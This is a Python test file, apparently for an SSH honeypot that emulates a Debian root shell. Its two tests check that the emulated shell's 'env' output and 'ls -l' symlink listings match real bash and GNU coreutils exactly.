def test_env_with_a_pty_is_sshds(sensor):
    """A login with a terminal: env, $TERM and $SSH_TTY as Debian's sshd
    and PAM leave them to bash (TERM from the pty request, SSH_TTY, the
    client's own address and port), in bash 5.2's order: the real bash
    given that environment prints the same lines."""
    c, ch, buf = pty_shell(sensor, term="xterm-256color")
    ch.sendall(b"env; echo $TERM $SSH_TTY\r")
    while not buf.endswith(b"/dev/pts/0\r\nroot@debian:~# "):
        buf += ch.recv(4096)
    peer, pport = c.get_transport().sock.getsockname()[:2]
    c.close()
    ours = buf.split(b"echo $TERM $SSH_TTY\r\n", 1)[1].replace(b"\r\n", b"\n")
    env = {"USER": "root", "LOGNAME": "root", "HOME": "/root",
           "MAIL": "/var/mail/root",
           "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
           "SHELL": "/bin/bash", "TERM": "xterm-256color",
           "SSH_CLIENT": f"{peer} {pport} 22",
           "SSH_CONNECTION": f"{peer} {pport} 127.0.0.1 22",
           "SSH_TTY": "/dev/pts/0", "LANG": "C.UTF-8", "XDG_SESSION_ID": "4",
           "XDG_RUNTIME_DIR": "/run/user/0", "XDG_SESSION_TYPE": "tty",
           "XDG_SESSION_CLASS": "user", "MOTD_SHOWN": "pam"}
    real = subprocess.run(["bash", "--norc", "-c", "env; echo $TERM $SSH_TTY"],
                          env=env, cwd="/root", capture_output=True).stdout
    assert ours == real + b"root@debian:~# "


def test_links_like_gnu_ls(sensor, tmp_path):
    """/usr/bin/sh is dash, awk the alternative, python3 3.11's: ls -l
    shows the links as GNU ls (coreutils 9.1) shows the same links."""
    for name, to in (("sh", "dash"), ("awk", "/etc/alternatives/awk"),
                     ("python3", "python3.11")):
        (tmp_path / name).symlink_to(to)
        subprocess.run(["touch", "-h", "-d", "2023-06-10 12:00", str(tmp_path / name)],
                       check=True)
    line = "ls -l sh; ls -l awk python3"
    real = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True,
                          text=True, env={"PATH": "/usr/bin:/bin", "LC_ALL": "C",
                                          "TZ": "UTC"})
    assert real.stdout.count(" -> ") == 3
    assert exec_all(sensor, ["cd /usr/bin; " + line])[0] == (
        real.stdout, real.stderr, real.returncode)
